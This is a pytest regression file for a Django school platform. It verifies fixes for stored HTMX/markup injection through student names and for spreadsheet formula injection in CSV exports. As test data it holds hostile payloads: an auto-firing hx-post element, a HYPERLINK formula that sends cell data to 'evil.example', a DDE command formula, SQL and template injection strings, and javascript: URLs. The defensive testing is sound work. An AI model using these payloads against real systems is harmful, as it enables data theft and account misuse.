"""Issue 15, findings 1 and 7: each test here fails on a1a5730 and passes now.

Finding 1: the needs-help "Dismiss" fragment (an f-string) swapped a student's name into the
teacher's page as live markup; names were free text on every path that takes one.
Finding 7: CSV exports and the admin roster export emitted cells spreadsheets run as formulas.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template import Context, Template
from django.urls import reverse

from accounts import services
from accounts.forms import AdminUserChangeForm, InvitationForm
from accounts.models import Invitation, User
from accounts.tests.factories import DEFAULT_PASSWORD
from accounts.validators import clean_person_name, validate_person_name
from schools.services import preview_invite_csv
from schools.tests.teacher_fixtures import make_lesson, make_topics, report_problem
from teaching.models import SignalDismissal
from vividly.spreadsheets import DictWriter, escape_cell, unescape_cell, writer

pytestmark = pytest.mark.django_db

HTMX_PAYLOAD = '<i hx-post="settings/" hx-vals=\'{"action":"archive"}\' hx-trigger="load"></i>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
GOOD_NAMES = ["Zoë", "Ngũgĩ wa Thiong’o", "O'Brien", "Anne-Marie", "J. R.", "ʻOfa", "प्रिया", "李小龙",
              "Łukasz", "Μαρία", "José María"]
BAD_NAMES = [HTMX_PAYLOAD, "<b>Bo</b>", "Robert'); DROP TABLE", "=cmd|' /C calc'!A0", "+1", "-Dash", "@me",
             "{{7*7}}", "Zoë 🌟", "x" * 101, "'Quote", ".Dot", "Amy2"]


def _signal_for(tenant):
    [topic] = make_topics(1)
    report_problem(tenant.student, make_lesson(topic), details="slide 2 is blank")


# --- finding 1: the dismiss fragment --------------------------------------------------------------

def test_dismiss_fragment_escapes_the_students_name_and_keeps_htmx_off(client, tenant_a):
    User.objects.filter(pk=tenant_a.student.pk).update(first_name=HTMX_PAYLOAD)  # data from before validation
    _signal_for(tenant_a)
    client.force_login(tenant_a.teacher)
    page = client.get(reverse("teacher:class", args=[tenant_a.classroom.pk])).content.decode()
    fingerprint = page.split('name="fingerprint" value="')[1].split('"')[0]
    response = client.post(reverse("teacher:dismiss_signal", args=[tenant_a.classroom.pk]),
                           {"student": tenant_a.student.pk, "kind": "reported_problem", "fingerprint": fingerprint},
                           HTTP_HX_REQUEST="true")
    html = response.content.decode()
    assert response.status_code == 200
    assert SignalDismissal.objects.filter(student=tenant_a.student).exists()
    assert "<i hx-post" not in html
    assert "&lt;i hx-post=&quot;settings/&quot;" in html
    assert "hx-disable" in html


def test_dismiss_errors_are_plain_text(client, tenant_a):
    client.force_login(tenant_a.teacher)
    response = client.post(reverse("teacher:dismiss_signal", args=[tenant_a.classroom.pk]),
                           {"student": tenant_a.student.pk, "kind": "<b>nope</b>", "fingerprint": "x"},
                           HTTP_HX_REQUEST="true")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")


def test_signal_list_fences_user_text_from_htmx(client, tenant_a):
    _signal_for(tenant_a)
    client.force_login(tenant_a.teacher)
    html = client.get(reverse("teacher:class", args=[tenant_a.classroom.pk])).content.decode()
    item = html.split('<li class="t-signal">')[1]
    assert item.startswith('<div class="t-row t-between"><div hx-disable>')
    assert '<button type="submit" hx-disable' in item


def test_htmx_is_configured_without_eval_or_script_tags_and_off_by_default(client, tenant_a):
    client.force_login(tenant_a.teacher)
    html = client.get(reverse("teacher:classes")).content.decode()
    assert '"allowEval": false' in html
    assert '"allowScriptTags": false' in html
    assert '"selfRequestsOnly": true' in html
    assert 'focus:outline-none container-page py-6 sm:py-10" hx-disable>' in html  # <main>, no htmx here


def test_server_error_page_is_built_safely(rf):
    from vividly.errors import server_error

    response = server_error(rf.get("/student/"))
    assert response.content == b"<!doctype html><title>500</title><h1>Server error.</h1>"


def test_form_help_text_is_escaped_text_not_markup(client, tenant_a):
    client.force_login(tenant_a.teacher)
    html = client.get(reverse("password_change")).content.decode()
    assert "<ul><li>Your password can’t be too similar" in html  # Django's own safe help list still renders


# --- finding 1: one name rule everywhere -------------------------------------------------------

@pytest.mark.parametrize("name", GOOD_NAMES)
def test_real_names_in_any_script_are_accepted(name):
    validate_person_name(name)
    assert clean_person_name(f"  {name}  ") == name


@pytest.mark.parametrize("name", BAD_NAMES)
def test_markup_formulas_symbols_and_digits_are_not_names(name):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        clean_person_name(name)


def test_demo_seed_names_follow_the_rule():
    from schools import seeding

    names = [n for row in seeding.CLASSES for n in row[2:4]]
    names += [n for pairs in seeding.STUDENT_NAMES.values() for pair in pairs for n in pair]
    for name in names:
        validate_person_name(name)
    assert len(names) > 20


def test_whitespace_is_normalised_by_forms_and_refused_raw_by_the_model_validator():
    from django.core.exceptions import ValidationError

    assert clean_person_name(" Tab\tName\n ") == "Tab Name"
    for raw in ("Tab\tName", "line\nbreak"):
        with pytest.raises(ValidationError):
            validate_person_name(raw)


def test_invitation_form_and_service_refuse_hostile_names(client, tenant_a):
    form = InvitationForm({"email": "kid@student.school-a.edu", "first_name": HTMX_PAYLOAD, "role": "student",
                           "classroom": tenant_a.classroom.pk}, actor=tenant_a.teacher, roles=["student"])
    assert not form.is_valid()
    assert "first_name" in form.errors
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        services.invite_user(actor=tenant_a.teacher, email="kid@student.school-a.edu", role="student",
                             first_name=HTMX_PAYLOAD, classroom=tenant_a.classroom)
    assert not Invitation.objects.exists()
    # and the page shows the refused value escaped
    client.force_login(tenant_a.teacher)
    response = client.post(reverse("invitation-new"), {"email": "kid@student.school-a.edu", "first_name": HTMX_PAYLOAD,
                                                       "role": "student", "classroom": tenant_a.classroom.pk})
    assert response.status_code == 200
    assert HTMX_PAYLOAD not in response.content.decode()
    assert not Invitation.objects.exists()


def test_accepting_an_invitation_revalidates_names(tenant_a):
    from django.core.exceptions import ValidationError

    invitation = services.invite_user(actor=tenant_a.teacher, email="kid@student.school-a.edu", role="student",
                                      first_name="Kim", classroom=tenant_a.classroom)
    Invitation.objects.filter(pk=invitation.pk).update(token_hash=services.hash_token("tok"))
    with pytest.raises(ValidationError):
        services.accept_invitation(token="tok", password=DEFAULT_PASSWORD, first_name="<b>Kim</b>")
    assert not User.objects.filter(email="kid@student.school-a.edu").exists()


def test_teacher_csv_preview_flags_hostile_names_per_row(tenant_a):
    preview = preview_invite_csv(classroom=tenant_a.classroom, text=(
        "email,first_name,last_name\n"
        f"one@student.school-a.edu,\"{HTMX_PAYLOAD}\",Smith\n"
        "two@student.school-a.edu,Zoë,=cmd|' /C calc'!A0\n"
        "three@student.school-a.edu,Ngũgĩ,wa Thiong’o\n"))
    assert [bool(r.errors) for r in preview.rows] == [True, True, False]
    assert "First name" in preview.rows[0].errors[0]
    assert "Last name" in preview.rows[1].errors[0]
    assert not preview.is_confirmable


def test_admin_user_form_refuses_hostile_names(tenant_a):
    user = tenant_a.student
    data = {"email": user.email, "first_name": "<script>alert(1)</script>", "last_name": "Ok", "role": "student",
            "district": tenant_a.district.pk, "school": tenant_a.school.pk, "grade_level": 9, "is_active": True,
            "date_joined_0": "2030-01-01", "date_joined_1": "10:00:00"}
    form = AdminUserChangeForm(data, instance=user)
    assert not form.is_valid()
    assert "first_name" in form.errors


def _roster_upload(client, first_name):
    text = ("email,first_name,last_name,role,school,grade_level,is_active,class_codes\n"
            f"new.kid.9@student.school-a.edu,{first_name},Kid,student,school-a.edu,9,1,\n")
    return client.post(reverse("admin:accounts_user_import"), {
        "resource": 0, "format": 0,
        "import_file": SimpleUploadedFile("roster.csv", text.encode(), content_type="text/csv")})


def test_roster_import_refuses_hostile_names(client, tenant_a):
    client.force_login(tenant_a.district_admin)
    response = _roster_upload(client, "<b>New</b>")
    assert response.context["result"].has_validation_errors()
    assert "<b>New</b>" not in response.content.decode()
    assert not User.objects.filter(email="new.kid.9@student.school-a.edu").exists()


# --- finding 7: spreadsheet formulas ------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_formula_cells_are_escaped_and_round_trip(value):
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", ["Ada", "", "'quoted", "a=b", 42, -3, 1.5, None])
def test_other_cells_are_left_alone(value):
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


def test_writers_escape_every_cell_including_headers():
    buffer = io.StringIO()
    writer(buffer).writerows([["=h"], [FORMULA, -1, "-1"]])
    dict_buffer = io.StringIO()
    dw = DictWriter(dict_buffer, fieldnames=["=k"])
    dw.writeheader()
    dw.writerows([{"=k": "@x"}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=h"], ["'" + FORMULA, "-1", "'-1"]]
    assert list(csv.reader(io.StringIO(dict_buffer.getvalue()))) == [["'=k"], ["'@x"]]


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def test_teacher_class_csv_does_not_emit_formulas(client, tenant_a):
    User.objects.filter(pk=tenant_a.student.pk).update(first_name=FORMULA)
    _signal_for(tenant_a)
    client.force_login(tenant_a.teacher)
    for table in ("progress", "heatmap", "assignments"):
        cells = _cells(client.get(reverse("teacher:class_export", args=[tenant_a.classroom.pk]) + f"?table={table}"))
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], table
    progress = _cells(client.get(reverse("teacher:class_export", args=[tenant_a.classroom.pk])))
    assert any(c.startswith("'" + FORMULA) for c in progress)


def test_district_usage_csv_does_not_emit_formulas(client, tenant_a):
    from schools.models import School

    School.objects.filter(pk=tenant_a.school.pk).update(name=FORMULA)
    client.force_login(tenant_a.district_admin)
    cells = _cells(client.get(reverse("district:usage_export") + "?table=schools"))
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith("=")]


def test_admin_roster_export_escapes_and_reimports_unchanged(client, tenant_a):
    User.objects.filter(pk=tenant_a.student.pk).update(first_name=FORMULA, last_name="-Dash")
    client.force_login(tenant_a.district_admin)
    columns = ["email", "first_name", "last_name", "role", "school", "grade_level", "is_active", "class_codes"]
    response = client.post(reverse("admin:accounts_user_export"), {
        "format": 0, "resource": 0, **{f"rosterresource_{c}": "on" for c in columns}})
    cells = _cells(response)
    assert "'" + FORMULA in cells
    assert "'-Dash" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    from accounts.roster import RosterResource

    row = {"email": tenant_a.student.email, "first_name": "'" + FORMULA, "last_name": "'-Dash", "role": "student"}
    RosterResource(actor=tenant_a.district_admin).before_import_row(row)
    assert (row["first_name"], row["last_name"]) == (FORMULA, "-Dash")


def test_student_access_log_csv_does_not_emit_formulas(client, tenant_a):
    from accounts.privacy.models import StudentDataAccess

    StudentDataAccess.objects.create(actor=tenant_a.teacher, actor_role="teacher", student=tenant_a.student,
                                     district=tenant_a.district, what="profile", endpoint="@" + FORMULA)
    client.force_login(tenant_a.student)
    cells = _cells(client.get(reverse("privacy:my_access_log")))
    assert "'@" + FORMULA in cells


def test_import_export_formula_setting_is_on(settings):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True


# --- the hunt: links built from stored URLs ------------------------------------------------------

@pytest.mark.parametrize(("url", "expected"), [
    ("https://openstax.org/books/physics", "https://openstax.org/books/physics"),
    ("/media/lesson.vtt", "/media/lesson.vtt"),
    ("javascript:alert(1)", ""), (" JavaScript:alert(1)", ""), ("java\tscript:alert(1)", ""),
    ("\x01javascript:alert(1)", ""), ("data:text/html,<script>", ""), ("vbscript:msgbox", ""), (None, ""),
])
def test_safe_url_filter_keeps_only_web_links(url, expected):
    rendered = Template("{% load vividly_ui %}{{ url|safe_url }}").render(Context({"url": url}))
    assert rendered == Template("{{ e }}").render(Context({"e": expected}))


def test_lesson_pages_never_link_to_javascript_urls(client, tenant_a):
    from content.models import Lesson
    from schools.tests.teacher_fixtures import make_request

    [topic] = make_topics(1)
    lesson = make_lesson(topic)
    make_request(tenant_a.student, lesson)
    Lesson.objects.filter(pk=lesson.pk).update(
        citations=[{"id": "c1", "title": "x", "url": "javascript:alert(1)"}], captions_url="javascript:alert(2)")
    client.force_login(tenant_a.teacher)
    html = client.get(reverse("teacher:lesson", args=[tenant_a.classroom.pk, lesson.pk])).content.decode()
    assert "javascript:" not in html
